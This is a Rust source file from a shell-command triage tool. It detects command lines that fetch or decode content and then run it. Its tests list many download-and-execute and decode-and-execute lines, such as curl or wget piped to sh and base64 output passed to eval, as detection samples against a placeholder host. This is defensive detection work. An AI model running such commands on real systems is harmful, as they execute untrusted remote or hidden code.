//! Whether what one command of a line brings is run by another: through a pipe, a substitution, a variable or a file.

use super::call::{Call, read, within, written};
use super::parse::{Command, Word};
use crate::triage::programs::{decodes, fetches, runs_elsewhere};
use crate::triage::subject::base_name;

/// Most files and variables that are remembered.
const MOST: usize = 16;

/// Most commands of a pipeline that are followed.
const LONGEST: usize = 16;

/// Texts inside of each other that are looked into.
const DEEPEST: usize = 4;

/// Whether something is fetched and run.
pub(in crate::triage) fn runs_what_it_fetches(commands: &[Command]) -> bool {
    Flow::new(fetches).list(commands, DEEPEST)
}

/// Whether something is made readable again and run.
pub(in crate::triage) fn runs_what_it_decodes(commands: &[Command]) -> bool {
    Flow::new(decodes).list(commands, DEEPEST)
}

/// What brings something: the name of a program, and its arguments.
type Source = fn(&[u8], &[&[u8]]) -> bool;

#[derive(Debug)]
struct Flow {
    brings: Source,
    /// Names of files that hold what was brought.
    files: Vec<Vec<u8>>,
    /// Variables that do.
    variables: Vec<Vec<u8>>,
}

impl Flow {
    fn new(brings: Source) -> Self {
        Self { brings, files: Vec::new(), variables: Vec::new() }
    }

    /// Whether a later command of a list runs what an earlier one brings.
    fn list(&mut self, commands: &[Command], depth: usize) -> bool {
        commands.iter().any(|command| self.command(commands, command, depth))
    }

    fn command(&mut self, commands: &[Command], command: &Command, depth: usize) -> bool {
        for word in &command.assigned {
            let at = memchr::memchr2(b'=', b'+', &word.text).unwrap_or_default();
            if self.holds(word) && self.variables.len() < MOST {
                self.variables.extend(word.text.get(..at).map(<[u8]>::to_vec));
            }
        }
        let call = Call::of(command);
        if call.as_ref().is_some_and(|call| self.runs(command, call)) {
            return true;
        }
        if let Some(depth) = depth.checked_sub(1)
            && within(command).iter().any(|list| self.list(list, depth))
        {
            return true;
        }
        let Some(call) = call else { return false };
        let source = self.is_source(&call);
        let handed = || {
            call.arguments
                .iter()
                .chain(read(command))
                .any(|word| self.holds(word) || self.is_file(&word.text))
        };
        if !source && !handed() {
            return false;
        }
        let mut files: Vec<&[u8]> = written(command).collect();
        if source {
            files.extend(outputs(call.arguments));
        }
        let mut at = command.feeds;
        for _ in 0..LONGEST {
            let Some(next) = at.and_then(|at| commands.get(at)) else { break };
            files.extend(written(next));
            if let Some(call) = Call::of(next) {
                if call.runs_input() {
                    return true;
                }
                if call.name() == b"tee" {
                    files.extend(call.arguments.iter().map(|word| word.text.as_slice()));
                }
            }
            at = next.feeds;
        }
        let named =
            files.into_iter().map(base_name).filter(|name| !matches!(*name, b"" | b"-" | b"null"));
        let room = MOST.saturating_sub(self.files.len());
        self.files.extend(named.map(<[u8]>::to_vec).take(room));
        false
    }

    /// Whether a command runs what an earlier one, or one inside of it, brings.
    fn runs(&self, command: &Command, call: &Call<'_>) -> bool {
        let brought = |word: &Word| self.holds(word) || self.is_file(&word.text);
        if brought(call.program) || call.given().iter().any(brought) {
            return true;
        }
        call.runs_input() && read(command).any(brought)
    }

    fn is_source(&self, call: &Call<'_>) -> bool {
        let arguments: Vec<&[u8]> =
            call.arguments.iter().map(|word| word.text.as_slice()).collect();
        // What runs another program elsewhere has it among its arguments.
        let elsewhere: &[&[u8]] = if runs_elsewhere(call.name()) { &arguments } else { &[] };
        let mut inner = elsewhere.iter().enumerate();
        (self.brings)(call.name(), &arguments)
            || inner.any(|(at, word)| {
                let rest = arguments.get(at.saturating_add(1)..).unwrap_or_default();
                (self.brings)(base_name(word), rest)
            })
    }

    /// Whether a word is what was brought: the output of a command that does, or a variable.
    fn holds(&self, word: &Word) -> bool {
        let mut inner = word.inner.iter().flatten();
        inner.any(|command| {
            let words = || command.words.iter().chain(read(command));
            Call::of(command).is_some_and(|call| self.is_source(&call))
                || words().any(|word| self.holds(word) || self.is_file(&word.text))
        }) || self.variables.iter().any(|name| expands(&word.text, name))
    }

    fn is_file(&self, path: &[u8]) -> bool {
        let name = base_name(path);
        self.files.iter().any(|file| file == name)
    }
}

/// Whether a text has the value of a variable put in: `$NAME`, `${NAME...}`.
fn expands(text: &[u8], name: &[u8]) -> bool {
    let mut rest = text;
    while let Some(at) = memchr::memchr(b'$', rest) {
        rest = rest.get(at.saturating_add(1)..).unwrap_or_default();
        let inner = rest.strip_prefix(b"{").unwrap_or(rest);
        let part = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
        if inner.strip_prefix(name).is_some_and(|behind| !behind.first().is_some_and(part)) {
            return true;
        }
    }
    false
}

/// The files that a program which fetches is told to write: behind an option, or called as at the other end.
fn outputs(words: &[Word]) -> Vec<&[u8]> {
    let long: [&[u8]; 4] = [b"--output-document=", b"--output=", b"-o", b"-O"];
    let mut files = Vec::new();
    let mut value = false;
    for word in words.iter().map(|word| word.text.as_slice()) {
        let group = word.starts_with(b"-") && !word.starts_with(b"--");
        let of_next = matches!(word, b"--output" | b"--output-document")
            || (group && matches!(word.last(), Some(b'o' | b'O')));
        let joined = long.iter().find_map(|start| word.strip_prefix(*start));
        match joined {
            _ if value => files.push(word),
            _ if of_next => {}
            Some(file) => files.push(file),
            None if !word.starts_with(b"-") && word.contains(&b'/') => files.push(word),
            None => {}
        }
        value = of_next && !value;
    }
    files
}

#[cfg(test)]
mod tests {
    use super::super::parse::parse;
    use super::*;

    #[test]
    fn what_is_fetched_and_run() {
        for line in [
            "curl -fsSL http://h/x | bash",
            "curl -s http://h/x |& sudo -u app /bin/sh -s -- a",
            "curl http://h/x.gz | gunzip | sh",
            "curl http://h/x | tee /tmp/l | sh",
            "(curl http://h/x; echo y) | sh",
            "wget h/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
            "curl http://h/x.gz | gunzip > /tmp/x; /tmp/x",
            "curl -o /tmp/x http://h/x && cat /tmp/x | sh",
            "curl -o /tmp/x http://h/x && sh < /tmp/x",
            "curl -s http://h/x | tee /tmp/y; . /tmp/y",
            "eval \"$(curl -fsSL http://h/x)\"",
            "sh -c \"`wget -qO- http://h/x`\"",
            "bash <(wget -qO- http://h/x)",
            "bash <<< \"$(curl http://h/x)\"",
            "$(curl http://h/x)",
            "X=$(curl http://h/x); eval \"$X\"",
            "X=$(curl http://h/x); echo \"${X}\" | sh",
            "X=$(curl http://h/x) && Y=\"$X\" && sh -c \"$Y\"",
            "sh -c 'curl http://h/x | sh'",
            "su app -c 'wget h/x; sh x'",
            "if true; then curl http://h/x | sh; fi",
            "busybox wget h/x; busybox sh x",
            "python3 -c \"$(curl http://h/x)\"",
            "torsocks curl http://h/x | sh",
            "docker run --rm i curl http://h/x | sh",
        ] {
            assert!(runs_what_it_fetches(&parse(line.as_bytes())), "{line}");
        }
        for line in [
            "curl -fsS http://localhost/health || exit 1",
            "curl http://h/x || sh /app/restart.sh",
            "curl http://h/x | python3 -c 'import json'",
            "curl http://h/x | python3 -m json.tool",
            "curl http://h/x | jq . > /tmp/x; cat /tmp/x",
            "IP=$(curl -s http://h/ip); exec app --ip $IP",
            "python3 app.py --ip $(curl http://h/ip)",
            "curl http://h/health; cat /app/run | sh",
            "curl -o app.tar http://h/app.tar && tar xf app.tar && /opt/app/run",
            "git fetch origin; ./build.sh",
            "echo 'curl http://h/x | sh'",
            "DL=$(command -v curl || command -v wget); $DL -o x http://h/x",
            "X=$(which curl); $X http://h/x > /tmp/y",
            "apt-get install -y curl | sh /x",
        ] {
            assert!(!runs_what_it_fetches(&parse(line.as_bytes())), "{line}");
        }
    }

    #[test]
    fn what_is_decoded_and_run() {
        for line in [
            "echo aWQ= | base64 -d | sh",
            "eval \"$(echo aGk= | base64 --decode)\"",
            "X=`echo aGk= | base64 -di`; eval $X",
            "base64 -d /x > /tmp/y; chmod +x /tmp/y; /tmp/y",
            "echo 6964 | xxd -r -p | bash",
            "openssl enc -d -aes-256-cbc -in /x | sh",
            "perl -MMIME::Base64 -e 'print decode_base64(\"aWQ=\")' | sh",
        ] {
            assert!(runs_what_it_decodes(&parse(line.as_bytes())), "{line}");
        }
        for line in [
            "base64 -d /cfg > /etc/app.conf; exec app",
            "PASSWORD=$(echo $P | base64 -d) exec app",
            "echo $C | base64 -d > /c; x | grep y; eval $(ssh-agent -s | cat); app",
            "base64 /x | sh",
        ] {
            assert!(!runs_what_it_decodes(&parse(line.as_bytes())), "{line}");
        }
    }

    #[test]
    fn hostile_lines_end() {
        for text in ["curl x>y;", "$(curl ", "X=$(curl $X);", "curl|", "eval '"] {
            runs_what_it_fetches(&parse(text.repeat(5000).as_bytes()));
        }
    }
}
